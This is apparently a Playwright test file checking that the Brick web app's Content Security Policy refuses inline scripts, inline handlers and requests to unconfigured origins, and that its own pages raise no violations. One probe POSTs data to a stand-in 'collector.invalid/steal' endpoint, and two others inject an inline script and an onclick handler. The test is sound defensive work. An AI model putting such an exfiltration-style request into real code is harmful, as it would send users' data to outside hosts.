import { test, expect } from './helpers';
import { seed, ART } from './dashboard-seed';

/**
 * The Content Security Policy is enforced in the built pages: even if some text ever slipped
 * into the DOM as markup, an inline script or handler would not run and nothing could be sent to
 * an origin Brick was not configured with.
 */
for (const path of ['/', '/s']) {
  test(`${path}: inline script and unknown origins are refused by the page's policy`, async ({ page }) => {
    await page.goto(path);
    const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(meta).toContain("default-src 'self'");

    const outcome = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
      const w = window as unknown as { __ranInline?: boolean; __ranHandler?: boolean };
      const script = document.createElement('script');
      script.textContent = 'window.__ranInline = true';
      document.body.append(script);
      // An inline handler is checked when its event comes (an image's load may never come, and
      // Chromium 150 then reports nothing): a click that certainly comes.
      const button = document.createElement('button');
      button.setAttribute('onclick', 'window.__ranHandler = true');
      document.body.append(button);
      button.click();
      let fetched = 'sent';
      try {
        await fetch('https://collector.invalid/steal', { method: 'POST', body: 'x' });
      } catch {
        fetched = 'refused';
      }
      await new Promise((resolve) => setTimeout(resolve, 300));
      return { inline: w.__ranInline ?? false, handler: w.__ranHandler ?? false, fetched, violations };
    });

    expect(outcome.inline).toBe(false);
    expect(outcome.handler).toBe(false);
    expect(outcome.fetched).toBe('refused');
    expect(outcome.violations).toEqual(expect.arrayContaining(['script-src-elem', 'script-src-attr', 'connect-src']));
  });
}

test("Brick's own pages break none of their policy's rules", async ({ page }) => {
  await seed(page);
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { __violations: string[] }).__violations = seen;
    document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.effectiveDirective} ${e.blockedURI}`));
  });
  for (const path of ['/', '/help', '/login', '/signup', '/dashboard', `/manage/${ART.siteId}`, `/show/artist/${ART.siteId}`, '/artist/slot1', '/s#damaged']) {
    await page.goto(path);
    await page.waitForLoadState('networkidle');
    expect(await page.evaluate(() => (window as unknown as { __violations: string[] }).__violations), path).toEqual([]);
  }
});
